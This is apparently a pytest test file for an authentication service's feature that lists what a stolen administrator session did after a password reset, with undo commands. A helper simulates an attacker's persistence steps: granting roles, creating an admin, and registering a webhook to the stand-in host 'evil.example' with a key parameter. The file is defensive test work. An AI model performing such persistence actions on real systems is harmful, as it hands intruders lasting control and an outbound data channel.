"""What an administrator's stolen session did, and a new password leaves standing: it is listed with the way to undo it,
for its owner alone.
"""

from __future__ import annotations

import html
import re
from collections.abc import AsyncIterator

import pytest
from tests.http.test_factors import ADA
from tests.http.test_set_aside import NEW, account_of, reset, verified
from tests.http.world import PASSWORD, Answer, Browser, World, a_world

from dutchdoor.model.accounts import Account
from dutchdoor.model.http_client import Client
from dutchdoor.model.policy import DAY

API = "/admin/api"
BOB, EVE = "bob@example.com", "eve@example.com"
CARD = "Was this you?"


@pytest.fixture
async def world() -> AsyncIterator[World]:
    async with a_world() as made:
        yield made


async def done(answering: object) -> Answer:
    answer: Answer = await answering  # type: ignore[misc]
    assert answer.status in {200, 201, 202, 204}, answer
    return answer


async def administrator(world: World) -> Browser:
    """Sign in as an administrator of two, whose address is confirmed."""
    await world.make_admin(ADA)
    await world.make_admin()
    await world.register(BOB)
    await verified(world)
    person = world.browser()
    await person.login(ADA)
    return person


async def account(world: World, email: str) -> Account:
    found = await world.store.account_by_email(email)
    assert found is not None
    return found


async def act(world: World, thief: Browser) -> dict[str, str]:
    """Do, in an administrator's session, all by which a thief could come back. Return the ids of what there is then."""
    bob = (await account(world, BOB)).subject
    await done(thief.call("POST", f"{API}/accounts/{bob}/roles", json={"roles": ["admin", "editor"]}))
    await done(thief.call("POST", f"{API}/accounts", json={"email": EVE, "roles": ["admin"]}))
    hook = (await done(thief.call("POST", f"{API}/webhooks", json={"url": "https://evil.example/x?key=1"}))).json
    key = (await done(thief.call("POST", f"{API}/verifiers", json={"name": "metrics"}))).json
    client = (await done(thief.call("POST", f"{API}/clients", json={"name": "Call +1 555 0100"}))).json
    return {"bob": bob, "hook": hook["id"], "client": client["client_id"], "verifier": key["name"]}


async def card(person: Browser, query: str = "") -> str:
    """Return what the page of the account lists, "" if it lists nothing."""
    page = await person.call("GET", f"/auth/account{query}", headers=[("accept", "text/html")])
    assert page.status == 200, page
    text = html.unescape(page.body.decode())
    return text[text.index(CARD) :].split("<h2")[0] if CARD in text else ""


async def mailed(world: World) -> str:
    await world.posted()
    return " ".join(world.mailbox.mails[-1].text.split())


async def test_g40_an_administrators_deeds_are_listed_after_a_reset(world: World) -> None:
    """The page of the account lists what, when, to whom and from which device, with the way to undo each; the mail says
    what and when, and no name that a thief may have chosen. Nothing is undone by itself.
    """
    thief = await administrator(world)
    ids = await act(world, thief)
    world.clock.forward(DAY)
    await reset(world)
    mail = await mailed(world)
    for text in ("An account was given roles: ", "An account with roles was created: ", "A webhook was added: "):
        assert text in mail, mail
    assert "A verifier key was made: " in mail and "A client was added: " in mail
    assert not any(name in mail for name in ("evil", "metrics", "555", BOB, EVE))
    owner = world.browser()
    await owner.login(ADA, NEW)
    listed = await card(owner)
    assert listed.count("<li>") == 5, listed
    eve = (await account(world, EVE)).subject
    for undo in (
        f"dutchdoor user role {ids['bob']} --none", f"dutchdoor user disable {eve}",
        f"dutchdoor webhook remove {ids['hook']}", "dutchdoor verifier remove metrics",
        f"dutchdoor client remove {ids['client']}",
    ):  # fmt: skip
        assert f"<code>{undo}</code>" in listed, (undo, listed)
    for shown in (BOB, EVE, "evil.example", "metrics", "Call +1 555 0100", "Firefox on Linux"):
        assert f"<bdi>{shown}</bdi>" in listed, (shown, listed)
    assert "key=1" not in listed
    assert (await account(world, BOB)).roles == ("admin", "editor")


async def test_g40_the_page_after_a_reset_leads_to_the_list(world: World) -> None:
    """An administrator who resets the password on our page reads that there is a list, and signs in to see it; a
    person who has nothing to look at goes on as ever.
    """
    thief = await administrator(world)
    for acts in (False, True):
        if acts:
            await thief.login(ADA, NEW)
            await done(thief.call("POST", f"{API}/verifiers", json={"name": "metrics"}))
        await world.posted()
        await world.browser().call("POST", "/auth/password/forgot", json={"email": ADA})
        await world.posted()
        token = re.findall(r"/auth/reset#(ddo1_[\w-]+)", world.mailbox.mails[-1].text)[-1]
        person, fields = world.browser(), {"token": token, "new_password": NEW}
        page = [("accept", "text/html")]
        answer = await person.call("POST", "/auth/password/reset", form=fields, headers=page)
        assert answer.status == 303, answer
        there = (answer.header("location") or "").partition("#")[0]
        assert ("acted=1" in there) == acts, there
        shown = (await person.call("GET", there, headers=page)).body.decode()
        assert ("did something as an administrator" in shown) == acts
        assert ('name="next" value="/auth/account"' in shown) == acts


async def test_g40_what_is_undone_is_listed_no_more(world: World) -> None:
    """Each is gone from the list once it is undone; the rest stays for a week after the new password."""
    thief = await administrator(world)
    ids = await act(world, thief)
    for path in (f"webhooks/{ids['hook']}/secret", f"clients/{ids['client']}/secret"):
        await done(thief.call("POST", f"{API}/{path}"))
    await reset(world)
    world.clock.forward(120)
    owner = world.browser()
    await owner.login(ADA, NEW)
    assert (await card(owner)).count("<li>") == 7
    await done(owner.call("POST", f"{API}/clients/{ids['client']}/secret"))
    assert "A client got a new secret" not in await card(owner)
    await done(owner.call("DELETE", f"{API}/webhooks/{ids['hook']}"))
    await done(owner.call("DELETE", f"{API}/verifiers/metrics"))
    await done(owner.call("POST", f"{API}/accounts/{ids['bob']}/roles", json={"roles": []}))
    eve = (await account(world, EVE)).subject
    await done(owner.call("POST", f"{API}/accounts/{eve}/disable"))
    left = await card(owner)
    assert left.count("<li>") == 1 and "A client was added" in left, left
    world.clock.forward(8 * DAY)
    owner = world.browser()
    await owner.login(ADA, NEW)
    assert await card(owner) == ""


async def test_g40_a_change_of_the_password_lists_them_too(world: World) -> None:
    """Beside an invitation with roles, which a reset would have withdrawn. What is older than a week is not listed, nor
    what the owner does later.
    """
    owner = await administrator(world)
    await act(world, owner)
    world.clock.forward(8 * DAY)
    owner = world.browser()
    await owner.login(ADA)
    await done(owner.call("POST", f"{API}/invitations", json={"email": "mallory@example.com", "roles": ["admin"]}))
    await done(owner.call("POST", f"{API}/invitations", json={"email": "carol@example.com"}))
    assert await card(owner) == ""
    await world.posted()
    body = {"current_password": PASSWORD, "new_password": NEW}
    await done(owner.call("POST", "/auth/password", json=body))
    assert "An invitation with roles was sent: " in await mailed(world)
    world.clock.forward(120)
    await done(owner.call("POST", f"{API}/verifiers", json={"name": "later"}))
    listed = await card(owner, "?done=password_changed")
    assert listed.count("<li>") == 1 and "mallory@example.com" in listed, listed
    assert "DELETE /admin/api/invitations/" in listed


async def test_g40_what_others_did_is_not_listed(world: World) -> None:
    """Neither the acts of another administrator, nor anything to a person who is none; a mail to them has no list."""
    await administrator(world)
    root = world.browser()
    await root.login("root@example.com")
    await act(world, root)
    await reset(world)
    assert "as an administrator" not in await mailed(world)
    owner = world.browser()
    await owner.login(ADA, NEW)
    assert await card(owner) == ""
    await done(owner.call("POST", f"{API}/verifiers", json={"name": "orders"}))  # as late as a request under way
    assert (await card(owner)).count("<li>") == 1
    ada = await account_of(world)
    await world.directory.admin.set_roles(ada.subject, [], client=Client(), actor="cli")
    assert await world.directory.deeds.of(await account_of(world)) == []
